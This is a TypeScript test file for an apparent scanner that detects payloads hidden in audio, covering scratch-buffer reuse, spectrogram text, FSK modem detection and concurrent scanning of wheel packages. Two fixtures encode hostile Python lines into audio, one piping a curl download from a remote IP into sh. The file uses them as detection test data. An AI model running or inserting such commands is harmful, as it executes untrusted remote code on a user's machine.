/**
 * Buffers kept from file to file on a thread must not carry anything over: a spectrogram computed into the shared
 * scratch grid equals a fresh one (and one kept with keepSpectrogram survives the next scratch call), the glyph search
 * gives the same answer on a file whatever it searched before, and the exact selection used on NaN-free ranges returns
 * what sorting returns. Memory lent to a file (its spectrogram's grid) or kept per thread (the FSK search's coarse
 * grid) gives the same answers as fresh memory, whatever was analysed before or at the same time.
 */
import { createHash } from 'node:crypto';
import { toScanFile } from '../../src/analyzers/run.js';
import { signalOf as sigOf, spectrogramOf } from '../../src/analyzers/audio-signal-common.js';
import { audioWork, endAudioWork } from '../../src/audio/decode.js';
import { findFsk } from '../../src/audio/fsk.js';
import { findTextLines } from '../../src/audio/glyphs.js';
import { histogram16 } from '../../src/audio/lsb.js';
import { Scratch } from '../../src/audio/scratch.js';
import { borrowGrid, computeSpectrogram, keepSpectrogram, MAX_STFT_FRAMES, returnGrid, selectK, selectNoNaN, spareGridCount } from '../../src/audio/stft.js';
import type { AudioSignal } from '../../src/audio/types.js';
import { defaultOptions } from '../../src/options.js';
import { scanArtifact } from '../../src/scan.js';
import type { ArtifactReport } from '../../src/types.js';
import { buildWheel } from '../helpers/archive.js';
import { fskSignal, music, noiseFloor, rng, spectrogramText, toInt16, wavFile, mix } from '../helpers/signal.js';

async function signalOf(data: Uint8Array): Promise<AudioSignal> {
  const o = await audioWork(await toScanFile('x.wav', data)).outcome;
  if (!o.ok) throw new Error(o.reason);
  return o.signal;
}

/** Every cell of a power grid, as one string. */
const cells = (a: Float32Array): string => Buffer.from(a.buffer, a.byteOffset, a.byteLength).toString('base64');

test('a scratch spectrogram equals a fresh one; a kept one survives the next scratch call, an unkept one does not', async () => {
  const a = await signalOf(wavFile(toInt16(music(6, 44100, 3), true), { rate: 44100 }));
  const b = await signalOf(wavFile(toInt16(noiseFloor(6, 44100, 4, 0.3), true), { rate: 44100 }));
  const fresh = computeSpectrogram(a, 1024, MAX_STFT_FRAMES, 512)!;
  const scratch = computeSpectrogram(a, 1024, MAX_STFT_FRAMES, 512, undefined, true)!;
  expect(scratch.frames).toBe(fresh.frames);
  expect([...scratch.power]).toEqual([...fresh.power]);
  expect([...scratch.mean]).toEqual([...fresh.mean]);
  const kept = keepSpectrogram(scratch);
  const before = cells(kept.power);
  computeSpectrogram(b, 1024, MAX_STFT_FRAMES, 512, undefined, true);
  expect(cells(kept.power)).toBe(before);
  // the contract: an unkept scratch spectrogram is only valid until the next scratch call
  expect(cells(scratch.power)).not.toBe(before);
  // a fresh spectrogram is never the scratch grid
  expect(keepSpectrogram(fresh)).toBe(fresh);
});

test('the glyph search answers the same on a file whatever it searched before', async () => {
  const text = await signalOf(wavFile(toInt16(mix(spectrogramText('HIDDEN', 2, { rate: 44100, fLow: 15000, fHigh: 19500 }), music(6, 44100, 5, 0.2)), true), { rate: 44100 }));
  const other = await signalOf(wavFile(toInt16(music(8, 44100, 6), true), { rate: 44100 }));
  const key = (s: AudioSignal) => JSON.stringify(findTextLines(computeSpectrogram(s)!));
  const first = key(text);
  expect(JSON.parse(first).lines.length).toBeGreaterThan(0);
  const between = key(other);
  expect(key(text)).toBe(first);
  expect(key(other)).toBe(between);
  expect(key(text)).toBe(first);
});

test('selectNoNaN returns what sorting returns, for every rank of short ranges and sampled ranks of long ones', () => {
  const r = rng(11);
  const patterns: Array<(n: number) => Float32Array> = [
    (n) => Float32Array.from({ length: n }, () => r()),
    (n) => Float32Array.from({ length: n }, () => Math.floor(r() * 4)),
    (n) => Float32Array.from({ length: n }, (_, i) => i),
    (n) => Float32Array.from({ length: n }, (_, i) => n - i),
    (n) => Float32Array.from({ length: n }, () => 5),
    (n) => Float32Array.from({ length: n }, () => (r() < 0.1 ? Infinity : r() < 0.1 ? -Infinity : r() * 1e-30)),
    (n) => Float32Array.from({ length: n }, () => 10 ** (r() * 60 - 30)),
  ];
  for (const p of patterns) {
    for (const n of [1, 2, 3, 9, 17, 40, 300, 5000, 70_000]) {
      const src = p(n);
      const sorted = Float32Array.from(src).sort();
      const ranks = n <= 40 ? Array.from({ length: n }, (_, k) => k) : [0, 1, n >> 3, n >> 1, n - 9, n - 8, n - 2, n - 1];
      for (const k of ranks) {
        // within a sub-range too: lo > 0
        const lo = n > 3 ? 1 : 0;
        if (k < lo) continue;
        const sub = Float32Array.from(src.subarray(lo)).sort();
        expect(selectNoNaN(Float32Array.from(src), lo, n - 1, k)).toBe(sub[k - lo]);
        expect(selectK(Float32Array.from(src), 0, n - 1, k)).toBe(sorted[k]);
      }
    }
  }
});

describe('memory lent per file and kept per thread', () => {
  const fresh = (s: AudioSignal) => computeSpectrogram(s)!;

  test('a lent grid is not lent again before it comes back; a returned one is lent to the next file, whose spectrogram equals a fresh one', async () => {
    const a = await signalOf(wavFile(toInt16(music(6, 44100, 3), true), { rate: 44100 }));
    const b = await signalOf(wavFile(toInt16(noiseFloor(5, 44100, 4, 0.3), true), { rate: 44100 }));
    const g1 = borrowGrid(1000);
    const g2 = borrowGrid(1000);
    expect(g1.buffer).not.toBe(g2.buffer);
    g1.fill(7);
    returnGrid(g1);
    returnGrid(g1); // twice: still one spare, never lent to two borrowers
    expect(spareGridCount()).toBe(1);
    // the spare is too small for a spectrogram: new memory then
    const big = borrowGrid(fresh(a).power.length);
    expect(big.buffer).not.toBe(g1.buffer);
    big.fill(Number.NaN);
    returnGrid(big);
    const lent: Float32Array[] = [];
    const lend = (cells: number) => {
      const g = borrowGrid(cells);
      lent.push(g);
      return g;
    };
    // b's grid is smaller than a's: it gets the dirty grid back, and every cell is written
    const sb = computeSpectrogram(b, undefined, undefined, undefined, undefined, false, undefined, lend)!;
    expect(lent[0].buffer).toBe(big.buffer);
    expect(cells(sb.power)).toBe(cells(fresh(b).power));
    returnGrid(g2);
  });

  test('ending a file drops what its analyzers shared and hands its grid to the next file', async () => {
    const fa = await toScanFile('a.wav', wavFile(toInt16(music(6, 44100, 3), true), { rate: 44100 }));
    const fb = await toScanFile('b.wav', wavFile(toInt16(music(5, 44100, 8), true), { rate: 44100 }));
    const wa = audioWork(fa);
    const { signal: sa } = await sigOf(fa);
    const spa = spectrogramOf(wa, sa!)!;
    const first = cells(spa.power);
    expect(wa.memo.has('stft')).toBe(true);
    endAudioWork(fa.data);
    expect(wa.memo.size).toBe(0);
    const wb = audioWork(fb);
    const { signal: sb } = await sigOf(fb);
    const spb = spectrogramOf(wb, sb!)!;
    // the grid a's analysis gave back, refilled with b's spectrum: a's old view now reads b's cells
    expect(spb.power.buffer).toBe(spa.power.buffer);
    expect(cells(spb.power)).toBe(cells(fresh(sb!).power));
    // a analysed again computes its spectrogram again, the same as before
    expect(cells(spectrogramOf(wa, sa!)!.power)).toBe(first);
    endAudioWork(fb.data);
    endAudioWork(fa.data);
    endAudioWork(fa.data); // a second end hands nothing back twice
  });

  test('the histogram of a signal is the same whichever signals were counted before it (one table per thread)', async () => {
    const sigs = await Promise.all([3, 4, 5, 6].map((seed) => signalOf(wavFile(toInt16(music(2, 44100, seed), true), { rate: 44100 }))));
    const direct = (s: AudioSignal) => {
      const h = new Float64Array(65536);
      for (const v of s.ints!) h[v + 32768]++;
      return Buffer.from(h.buffer).toString('base64');
    };
    const want = sigs.map(direct);
    for (const order of [[0, 1, 2, 3], [3, 0, 3, 1, 2, 0], [2, 2, 1, 0, 1, 3]]) {
      for (const i of order) expect(Buffer.from(histogram16(sigs[i])!.buffer).toString('base64')).toBe(want[i]);
    }
    // one table per thread, refilled for each signal: no fresh 512 KB array per file
    expect(histogram16(sigs[0])!.buffer).toBe(histogram16(sigs[1])!.buffer);
  });

  test('the FSK search answers the same on a file whatever it searched before (its coarse grid is kept per thread)', async () => {
    const payload = new TextEncoder().encode('import os; os.system("curl http://203.0.113.7/x | sh")');
    const modem = await signalOf(wavFile(toInt16(mix(fskSignal(payload, { rate: 44100 }), noiseFloor(4, 44100, 2, 0.002)), true), { rate: 44100 }));
    const long = await signalOf(wavFile(toInt16(music(12, 44100, 9), true), { rate: 44100 }));
    const key = (s: AudioSignal) => JSON.stringify(findFsk(s.mono, s.sampleRate, computeSpectrogram(s)!));
    const first = key(modem);
    expect(JSON.parse(first)).not.toBeNull();
    key(long);
    expect(key(modem)).toBe(first);
  });

  test('artifacts scanned at the same time on one thread report what they report one at a time', async () => {
    const wheel = (name: string, seed: number) =>
      buildWheel(name, '1.0', {
        [`${name}/__init__.py`]: 'X = 1\n',
                [`${name}/b.wav`]: wavFile(toInt16(mix(spectrogramText('HIDDEN', 2, { rate: 44100, fLow: 15000, fHigh: 19500 }), music(4, 44100, seed + 1, 0.2)), true), { rate: 44100 }),
        [`${name}/c.wav`]: wavFile(toInt16(noiseFloor(2, 44100, seed + 2, 0.3), true), { rate: 44100 }),
        [`${name}/d.wav`]: wavFile(toInt16(mix(fskSignal(new TextEncoder().encode(`exec(open("/tmp/${name}").read())`), { rate: 44100 }), noiseFloor(4, 44100, seed, 0.002)), true), { rate: 44100 }),
      });
    const inputs = [wheel('one', 1), wheel('two', 5)].map((data, i) => ({ file: `p${i}-1.0-py3-none-any.whl`, path: `p${i}.whl`, data }));
    const opts = defaultOptions();
    // pictures by their hash (a failure then prints a readable diff)
    const strip = (r: ArtifactReport) =>
      JSON.stringify({ ...r, stats: { ...r.stats, seconds: 0 }, attachments: r.attachments?.map((a) => ({ ...a, data: a.data && createHash('sha256').update(a.data).digest('hex') })) });
    const alone: string[] = [];
    for (const i of inputs) alone.push(strip(await scanArtifact({ ...i, data: new Uint8Array(i.data) }, opts)));
    for (const rule of ['audio.spectrogram.text', 'audio.modem.fsk']) expect(alone.every((r) => r.includes(rule))).toBe(true);
    const together = await Promise.all(inputs.map((i) => scanArtifact({ ...i, data: new Uint8Array(i.data) }, opts)));
    expect(together.map(strip)).toEqual(alone);
  });
});

describe('Scratch (typed arrays lent to one computation at a time)', () => {
  test('a take is a view of the asked length on one kept buffer, grown when too short, filled only when asked', () => {
    const made: number[] = [];
    const s = new Scratch((n) => {
      made.push(n);
      return new Float64Array(n);
    }, 100);
    const a = s.take(10, 3);
    expect(a.length).toBe(10);
    expect([...a]).toEqual(new Array(10).fill(3));
    a[9] = 7;
    const b = s.take(5);
    expect(b.buffer).toBe(a.buffer);
    expect(b.length).toBe(5);
    // not filled: what the last user left
    expect(b[4]).toBe(3);
    expect(s.take(10)[9]).toBe(7);
    // grows to at least twice its size
    const c = s.take(11, 0);
    expect(c.buffer).not.toBe(a.buffer);
    expect(c.buffer.byteLength).toBe(20 * 8);
    expect([...c]).toEqual(new Array(11).fill(0));
    expect(made).toEqual([0, 10, 20]);
  });

  test('trim drops a buffer grown past what is kept, and only then', () => {
    const s = new Scratch((n) => new Int32Array(n), 64);
    const small = s.take(64);
    s.trim();
    expect(s.take(64).buffer).toBe(small.buffer);
    const big = s.take(65);
    s.trim();
    const after = s.take(1);
    expect(after.buffer).not.toBe(big.buffer);
    expect(after.buffer.byteLength).toBe(4);
  });
});
